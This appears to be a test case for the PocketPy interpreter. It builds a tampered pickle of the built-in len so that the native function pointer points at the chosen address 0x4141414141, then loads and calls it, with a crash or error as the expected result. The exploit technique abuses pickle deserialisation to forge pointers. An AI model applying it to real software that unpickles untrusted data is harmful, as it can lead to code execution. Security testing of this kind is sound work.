# A pickle that forges a native function at a chosen address, and its call: the fault's program counter is nowhere.
# policy: open
# expect: crashed|error
import pickle
data = pickle.dumps(len)
raw = [data[i] for i in range(len(data))]
start = 4 if raw[0] == 240 else 2       # what it begins with: PocketPy 2.1's four bytes, or PK
end = start
while raw[end] != 10:
    end += 1
raw = raw[:start] + raw[end:]
value = len(raw) - 1 - 24
for i in range(8, 16):
    raw[value + i] = 0x41 if i < 13 else 0
f = pickle.loads(bytes(raw))
f(1)  # attack
